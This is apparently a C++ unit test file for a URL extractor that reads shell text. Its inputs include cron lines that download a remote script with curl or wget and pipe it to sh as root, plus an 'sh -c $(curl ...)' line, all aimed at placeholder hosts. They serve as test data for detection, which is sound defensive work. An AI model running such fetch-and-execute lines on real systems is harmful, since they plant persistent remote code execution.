#include "codec/fetched_urls.hpp"

#include <doctest/doctest.h>

using noroshi::codec::fetched_urls;
using Urls = std::vector<std::string>;

TEST_CASE("a cron line names what a shell would fetch") {
  CHECK(fetched_urls("\n\n*/2 * * * * root curl -fsSL http://192.0.2.66/init.sh | sh\n\n") ==
        Urls{"http://192.0.2.66/init.sh"});
  CHECK(fetched_urls("*/5 * * * * wget -q -O- 192.0.2.66:8080/x|sh; curl -o /tmp/y.sh host.example/y") ==
        Urls{"http://192.0.2.66:8080/x", "http://host.example/y"});
  CHECK(fetched_urls("/usr/bin/curl -A 'my.agent/1.0' 'https://host.example/a'") == Urls{"https://host.example/a"});
  CHECK(fetched_urls("sh -c \"$(curl -s ftp://192.0.2.1/z)\"") == Urls{"ftp://192.0.2.1/z"});
}

TEST_CASE("text that fetches nothing names nothing") {
  CHECK(fetched_urls("").empty());
  CHECK(fetched_urls("see http://example.com/ for more").empty());
  CHECK(fetched_urls("ssh-rsa AAAAB3NzaC1yc2E= root@host.example").empty());
  CHECK(fetched_urls("curl --help").empty());
  CHECK(fetched_urls("wget $HOST/x").empty());
  CHECK(fetched_urls(std::string_view{"curl \0http", 10}).empty());
}

TEST_CASE("a flood of addresses is cut") {
  auto text = std::string{};
  for (auto i = 0; i < 100; ++i) text += "curl http://192.0.2.1/" + std::to_string(i) + "\n";
  CHECK(fetched_urls(text).size() == noroshi::codec::kMaxFetchedUrls);
}
